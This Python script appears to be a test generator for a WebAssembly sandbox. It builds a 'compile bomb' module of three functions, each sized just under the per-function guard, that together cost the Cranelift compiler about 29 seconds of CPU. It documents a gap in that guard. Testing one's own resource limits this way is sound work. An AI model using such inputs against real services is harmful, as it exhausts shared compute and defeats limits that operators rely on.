"""Generate compile_bomb_split.wasm: three functions each just under the default guard.

Attack (ours): the compile guard bounds one function (512 KiB body, 2,000 locals under
the `default` profile), not their sum. Three bodies of 511 KiB with 1,999 locals each,
all live to the end, pass every per-function check of `default` and together cost
Cranelift tens of seconds of CPU (measured ~29 s on a 2-core machine) before the guest's
timeout starts. `_start` calls each once.
usage: python gen_compile_bomb_split.py OUT_DIR
"""

from __future__ import annotations

import sys
from pathlib import Path

from gen_compile_bomb import I32_CONST, bomb_body
from wasm_encode import header, leb, section, vec

FUNCTIONS = 3
LOCALS = 1_999
BODY_BYTES = 511 * 1024


def main(out_dir: Path) -> None:
    # type 0: (i32) -> i32, a bomb; type 1: () -> (), _start (function FUNCTIONS)
    types = section(1, vec([b"\x60\x01\x7f\x01\x7f", b"\x60\x00\x00"]))
    funcs = section(3, vec([leb(0)] * FUNCTIONS + [leb(1)]))
    exports = section(7, vec([b"\x06_start\x00" + leb(FUNCTIONS)]))
    # 1,999 locals in all: the parameter plus 1,998 declared (under the limit of 2,000)
    bombs = [bomb_body(LOCALS, 10**6, seed=2509 + k, max_size=BODY_BYTES)
             for k in range(FUNCTIONS)]
    calls = b"".join(bytes([I32_CONST, 7, 0x10]) + leb(k) + b"\x1a" for k in range(FUNCTIONS))
    start = b"\x00" + calls + b"\x0b"
    code = section(10, vec([leb(len(body)) + body for body in bombs]
                           + [leb(len(start)) + start]))
    (out_dir / "compile_bomb_split.wasm").write_bytes(
        header() + types + funcs + exports + code)


if __name__ == "__main__":
    main(Path(sys.argv[1]))
